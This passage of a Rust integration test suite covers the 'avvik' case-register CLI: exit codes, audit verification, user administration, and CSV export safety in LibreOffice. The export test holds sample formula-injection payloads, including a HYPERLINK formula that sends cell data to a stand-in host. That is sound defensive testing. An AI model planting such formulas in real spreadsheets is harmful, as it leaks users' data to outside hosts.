        code_of(&cli.as_user("ansatt").run(&["user", "list"], None)),
        5
    );
    assert_eq!(
        code_of(&cli.run_with_env(&["case", "list"], &[("AVVIK_PASSWORD", "feil passord!")])),
        5
    );
    // 6: conflict: a submitted case is not submitted again.
    assert_eq!(code_of(&cli.run(&["case", "submit", &first], None)), 6);
    // 7: locked: the wrong passphrase.
    assert_eq!(
        code_of(&cli.run_with_env(
            &["case", "list"],
            &[("AVVIK_PASSPHRASE", "feil passfrase her")]
        )),
        7
    );
    // 9: the history's check fails for a head that is not in it.
    assert_eq!(
        code_of(&cli.run(&["audit", "verify", "--head", &"ab".repeat(32)], None)),
        9
    );
    // 8: a store newer than this avvik.
    raw_store(&cli.db())
        .pragma_update(None, "user_version", 99)
        .unwrap();
    assert_eq!(code_of(&cli.run(&["case", "list"], None)), 8);
}

/// `avvik case list | head` closes the pipe early: not an error (exit 0, nothing said).
#[test]
fn a_reader_that_stops_early_is_not_an_error() {
    let cli = Cli::new().with_systems().with_example_cases();
    let mut child = cli.command(&["case", "list"]).spawn().unwrap();
    // The reader goes away before the output comes (signing in alone takes longer).
    drop(child.stdout.take());
    drop(child.stdin.take());
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{:?}", out.status);
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A store made by the released 0.1.0 (see `tests/fixtures/README.md`) passes
/// `avvik audit verify` against the chain head the release left, opened by this build.
#[test]
fn the_released_store_passes_audit_verify() {
    let cli = Cli {
        user: Some("leder".into()),
        ..Cli::bare()
    };
    let fixture = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../tests/fixtures/store-0.1.0.sqlite3"
    );
    std::fs::copy(fixture, cli.db()).unwrap();
    let head = "c383017df453a72318319bc1980f73321db7b20f8adcbd0a2abac485f0812f3d";
    let env = [("AVVIK_PASSPHRASE", "fixture passphrase 0.1.0")];
    let out = cli.run_with_env(&["audit", "verify", "--head", head], &env);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let verified: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(verified["head_found"], true);
    // The release's 33 events, and one `state_recorded` for each of its three submitted
    // cases, added once when this build first opened it.
    assert_eq!(verified["events"], 36);
    assert_eq!(verified["state"], serde_json::json!([]), "{verified}");
    assert!(verified["broken"].is_null(), "{verified}");
    // The wrong passphrase is «locked», not a broken history.
    let out = cli.run_with_env(&["audit", "verify"], &[("AVVIK_PASSPHRASE", "feil")]);
    assert_eq!(code_of(&out), 7, "{}", String::from_utf8_lossy(&out.stderr));
}

/// An admin manages people from the command line as in the window: a one-time password
/// printed once and replaced at the first sign-in, roles changed, a person disabled and
/// enabled; the core's rules hold (nobody disables themselves).
#[test]
fn an_admin_adds_changes_disables_and_enables_people() {
    let cli = Cli::new();
    let added = cli.ok(
        &[
            "user",
            "add",
            "--username",
            "kari",
            "--name",
            "Kari Ny",
            "--role",
            "employee",
            "--one-time-password",
        ],
        None,
    );
    assert_eq!(added["user"]["must_change_password"], true);
    let once = added["one_time_password"].as_str().unwrap().to_owned();
    let kari = cli.as_user("kari");
    // The one-time password opens nothing but the change of password.
    let out = kari.run_with_env(&["case", "list"], &[("AVVIK_PASSWORD", &once)]);
    assert_eq!(code_of(&out), 5);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("choose your own"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = kari.run_with_env(
        &["user", "password"],
        &[("AVVIK_PASSWORD", &once), ("AVVIK_NEW_PASSWORD", PASSWORD)],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(kari.ok(&["case", "list"], None), serde_json::json!([]));

    let changed = cli.ok(
        &[
            "user", "update", "KARI", "--role", "employee", "--role", "dpo",
        ],
        None,
    );
    assert_eq!(changed["roles"], serde_json::json!(["employee", "dpo"]));
    assert_eq!(changed["name"], "Kari Ny");
    let disabled = cli.ok(&["user", "disable", "kari"], None);
    assert!(disabled["disabled_at"].is_string());
    let out = kari.run(&["case", "list"], None);
    assert_eq!(code_of(&out), 5);
    assert!(String::from_utf8_lossy(&out.stderr).contains("disabled"));
    cli.ok(&["user", "enable", "kari"], None);
    kari.ok(&["case", "list"], None);

    let err = cli.fails(&["user", "disable", "leder"], None);
    assert!(err.contains("nobody can disable themselves"), "{err}");
    assert_eq!(code_of(&cli.run(&["user", "disable", "leder"], None)), 6);
    assert_eq!(code_of(&cli.run(&["user", "disable", "ingen"], None)), 4);
    let reset = cli.ok(
        &["user", "reset-password", "kari", "--one-time-password"],
        None,
    );
    assert_eq!(reset["user"]["must_change_password"], true);
    assert_eq!(code_of(&kari.run(&["case", "list"], None)), 5);
}

/// LibreOffice, when the machine has it (the test command installs it; under `CI=true`
/// it must be there).
fn soffice() -> Option<&'static str> {
    let found = Command::new("soffice")
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !found && std::env::var("CI").as_deref() == Ok("true") {
        panic!(
            "LibreOffice (soffice) is missing; the test command installs libreoffice-calc-nogui"
        );
    }
    found.then_some("soffice")
}

/// The cells of the first sheet as LibreOffice reads a CSV file (separator `;`, `"`
/// around texts, UTF-8), each as (formula, text): converted to ODS headless and read
/// back from its content.xml.
fn cells_in_libreoffice(soffice: &str, csv: &Path) -> Vec<(Option<String>, String)> {
    let dir = csv.parent().unwrap();
    let profile = dir.join("lo-profile");
    let out = Command::new(soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args([
            "--headless",
            "--infilter=CSV:59,34,76,1",
            "--convert-to",
            "ods",
            "--outdir",
        ])
        .arg(dir)
        .arg(csv)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let ods = csv.with_extension("ods");
    let read = Command::new("python3")
        .args([
            "-c",
            "import sys, zipfile; sys.stdout.write(zipfile.ZipFile(sys.argv[1]).read('content.xml').decode())",
        ])
        .arg(&ods)
        .output()
        .unwrap();
    let xml = String::from_utf8(read.stdout).unwrap();
    xml.split("<table:table-cell")
        .skip(1)
        .map(|cell| {
            let head = &cell[..cell.find('>').unwrap_or(cell.len())];
            let formula = head
                .split("table:formula=\"")
                .nth(1)
                .map(|f| f[..f.find('"').unwrap()].to_owned());
            let text = cell
                .split("<text:p>")
                .nth(1)
                .map(|t| t[..t.find("</text:p>").unwrap_or(t.len())].to_owned())
                .unwrap_or_default();
            (formula, text)
        })
        .collect()
}

#[test]
fn the_csv_export_opens_in_libreoffice_without_a_single_formula() {
    let Some(soffice) = soffice() else {
        eprintln!("skipped: LibreOffice is not installed here");
        return;
    };
    let cli = Cli::new().with_systems();
    let hostile = [
        r#"=HYPERLINK("http://x.example/?"&A1,"Klikk")"#,
        "=1+2",
        " =1+1",
        "@SUM(1+1)",
        "+47 22 00 00 00",
        "-2+3",
    ];
    for title in hostile {
        let doc = serde_json::json!({"title": title, "reporter": {"name": "=1+2"}});
        cli.ok(
            &["case", "new", "--draft", "--json", "-"],
            Some(&doc.to_string()),
        );
    }
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("register.csv");
    cli.ok_silent(&[
        "case",
        "export",
        "--format",
        "csv",
        "--output",
        csv.to_str().unwrap(),
    ]);
    let cells = cells_in_libreoffice(soffice, &csv);
    let formulas: Vec<_> = cells.iter().filter(|(f, _)| f.is_some()).collect();
    assert!(formulas.is_empty(), "formulas in the export: {formulas:?}");
    // Each is there, as the text it was.
    for needle in [
        "HYPERLINK",
        "=1+2",
        "=1+1",
        "@SUM(1+1)",
        "+47 22 00 00 00",
        "-2+3",
    ] {
        assert!(
            cells.iter().any(|(_, text)| text.contains(needle)),
            "{needle} is in the sheet as text: {cells:?}"
        );
    }
    // The control: the same cells unprotected are formulas to LibreOffice, so the check
    // above can fail.
    let raw = dir.path().join("raw.csv");
    std::fs::write(
        &raw,
        "\u{feff}a;b\r\n=1+2;\"=HYPERLINK(\"\"http://x.example\"\",\"\"Klikk\"\")\"\r\n",
    )
    .unwrap();
    let control = cells_in_libreoffice(soffice, &raw);
    assert_eq!(
        control.iter().filter(|(f, _)| f.is_some()).count(),
        2,
        "{control:?}"
    );
}
